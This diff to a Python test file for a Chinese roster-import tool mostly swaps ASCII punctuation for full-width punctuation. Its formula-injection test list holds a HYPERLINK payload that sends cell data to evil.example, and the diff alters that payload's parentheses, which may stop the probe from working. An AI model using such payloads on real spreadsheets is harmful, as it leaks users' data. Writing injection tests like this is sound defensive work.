@@ -201,7 +201,7 @@ def test_a_bad_file_names_each_bad_row_and_saves_nothing(
             "",
             "否",
             "青山村",
-            "天目共富联盟(望湖村)",
+            "天目共富联盟（望湖村）",
             "会员",
             "2022-01-01",
             None,
@@ -214,7 +214,7 @@ def test_a_bad_file_names_each_bad_row_and_saves_nothing(
     # Numbered as Excel shows them: the header is row 1, so the third and fourth people are rows 4 and 5.
     assert set(errors) == {4, 5}
     assert "“自由职业者”不是有效的社会阶层" in errors[4]["社会阶层"][0]
-    assert "组织“天目共富联盟(望湖村)”不存在或不在您的管辖范围内" in errors[5]["组织"][0]
+    assert "组织“天目共富联盟（望湖村）”不存在或不在您的管辖范围内" in errors[5]["组织"][0]
     page = preview.content.decode()
     assert "自由职业者" in page and "不在您的管辖范围内" in page
     assert counts() == before
@@ -386,7 +386,7 @@ def test_a_phone_held_outside_the_importers_area_is_answered_without_saying_so(
     before = counts()
     errors = _refusals(client, [GOOD_ROWS[1], _row("吴设计", "13900002222")])
     assert errors == {
-        3: {"手机号": ["这个手机号不能在此登记。请先与本人核对号码;号码无误的,请联系区委统战部核实后办理。"]}
+        3: {"手机号": ["这个手机号不能在此登记。请先与本人核对号码；号码无误的，请联系区委统战部核实后办理。"]}
     }
     assert counts() == before
 
@@ -405,7 +405,7 @@ def test_a_good_file_is_written_by_the_importer_through_the_roster_services(
 # ---- formulas in exported cells (probe 10) ------------------------------------------------------------------
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
+    '=HYPERLINK（"http://evil.example/?q="&A1,"点我"）',
     "+86-138",
     "-2+3",
     "@SUM(1+1)",
